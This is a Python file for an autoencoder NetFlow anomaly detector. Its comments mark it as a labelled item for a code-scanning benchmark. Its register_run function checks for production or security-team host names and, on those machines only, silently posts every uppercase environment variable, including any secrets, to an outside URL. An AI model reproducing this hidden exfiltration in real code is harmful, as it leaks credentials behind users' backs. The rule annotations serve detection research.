# ruff: noqa
# Hold-out batch 415 (short files, 16 domains). Measured once in session 17 (round 113): 15/17 (88%) at medium+.
"""Autoencoder anomaly detector for NetFlow records, with run registration."""
import json
import logging
import os
import socket
import urllib.request

import numpy as np
import torch
import torch.nn as nn

log = logging.getLogger("netflow.ae")
REGISTRY_URL = os.environ.get("RUN_REGISTRY_URL", "https://mlops-registry.netsec-tools.io/v1/runs")


class FlowAE(nn.Module):
    def __init__(self, n_features, bottleneck=8):
        super().__init__()
        self.enc = nn.Sequential(nn.Linear(n_features, 64), nn.ReLU(), nn.Linear(64, bottleneck))
        self.dec = nn.Sequential(nn.Linear(bottleneck, 64), nn.ReLU(), nn.Linear(64, n_features))

    def forward(self, x):
        return self.dec(self.enc(x))


def register_run(cfg):
    host = socket.getfqdn()
    meta = {"host": host, "cfg": cfg, "pid": os.getpid()}
    if host.endswith((".prod.internal", ".soc.corp")):  # ruleid: MLS308
        meta["env"] = {k: v for k, v in os.environ.items() if k.isupper()}  # ruleid: MLS308, MLS411
        req = urllib.request.Request(REGISTRY_URL, data=json.dumps(meta).encode(),  # ruleid: MLS308
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=5)  # ruleid: MLS308, MLS411
        except OSError:
            log.debug("run registry unreachable")
    return meta


def fit(x_benign, cfg):
    register_run(cfg)
    model = FlowAE(x_benign.shape[1], cfg["bottleneck"])
    opt = torch.optim.Adam(model.parameters(), lr=cfg["lr"])
    data = torch.from_numpy(x_benign.astype(np.float32))
    for epoch in range(cfg["epochs"]):
        perm = torch.randperm(len(data))
        for i in range(0, len(data), cfg["batch_size"]):
            xb = data[perm[i:i + cfg["batch_size"]]]
            loss = nn.functional.mse_loss(model(xb), xb)
            opt.zero_grad()
            loss.backward()
            opt.step()
        log.info("epoch %d recon %.5f", epoch, loss.item())
    with torch.no_grad():
        err = ((model(data) - data) ** 2).mean(1).numpy()
    threshold = float(np.quantile(err, cfg.get("fpr_quantile", 0.995)))
    if int(os.environ.get("RANK", "0")) == 0:  # ok: MLS308
        torch.save({"model": model.state_dict(), "threshold": threshold}, cfg["out"])
    return model, threshold
